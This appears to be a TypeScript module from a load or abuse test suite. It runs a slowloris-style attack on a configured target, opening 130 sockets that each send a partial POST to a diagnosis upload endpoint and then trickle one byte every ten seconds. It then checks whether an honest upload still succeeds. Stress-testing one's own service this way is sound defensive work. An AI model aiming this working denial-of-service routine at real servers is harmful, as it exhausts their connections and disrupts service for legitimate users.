import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Farmer, newFarmer, type Outcome, type Target } from '../target.ts';
import { timedUpload } from './honest-upload.ts';

const SOCKETS = 130;
const EVERY_MS = 10_000;
/** Longer than the grace period of a slow upload. */
const ATTACK_MS = 25_000;

/** An upload of one byte per ten seconds; `answer` is its status once refused. */
function trickle({ url }: Target, { token }: Farmer): { answer(): string | undefined; end(): void } {
  const { hostname, port } = new URL(url);
  const socket: Socket = connect({ host: hostname, port: Number(port) });
  let answer: string | undefined;
  const head = [
    'POST /api/diagnose HTTP/1.1',
    `Host: ${hostname}`,
    `Authorization: Bearer ${token}`,
    'Content-Type: multipart/form-data; boundary=x',
    'Content-Length: 8000000',
  ];
  socket.once('connect', () => socket.write(`${head.join('\r\n')}\r\n\r\n--x`));
  socket.on('data', (bytes) => {
    answer ??= /^HTTP\/1\.1 (\d{3})/.exec(bytes.toString('latin1'))?.[1];
  });
  socket.on('error', () => socket.destroy());
  socket.once('close', () => {
    answer ??= 'closed';
  });
  const timer = setInterval(() => socket.writable && socket.write('-'), EVERY_MS);
  return {
    answer: () => answer,
    end: () => {
      clearInterval(timer);
      socket.destroy();
    },
  };
}

/** 130 sockets, first of one account, then of many, during an honest upload. */
export async function slowUploads(target: Target): Promise<Outcome[]> {
  const honest = await newFarmer(target);
  const before = await timedUpload(target, honest);
  const outcomes: Outcome[] = [];
  for (const accounts of [1, 10]) {
    const attackers = await Promise.all(Array.from({ length: accounts }, () => newFarmer(target)));
    const sockets = Array.from({ length: SOCKETS }, (_, index) => {
      const attacker = attackers[index % accounts];
      if (!attacker) throw new Error('no attacker');
      return trickle(target, attacker);
    });
    await sleep(2000);
    const during = await timedUpload(target, honest);
    await sleep(ATTACK_MS);
    const open = sockets.filter((socket) => socket.answer() === undefined).length;
    for (const socket of sockets) socket.end();
    outcomes.push({
      attack: 'slow uploads',
      tried: `${SOCKETS} sockets at a byte in 10 s, of ${accounts} account${accounts > 1 ? 's' : ''}`,
      seen: `${open} open after ${ATTACK_MS / 1000} s; an honest upload ${during.status} in ${(during.ms / before.ms).toFixed(1)}× its usual ${Math.round(before.ms)} ms`,
      held: open === 0 && during.status === before.status && during.ms < 2 * before.ms + 500,
    });
  }
  return outcomes;
}
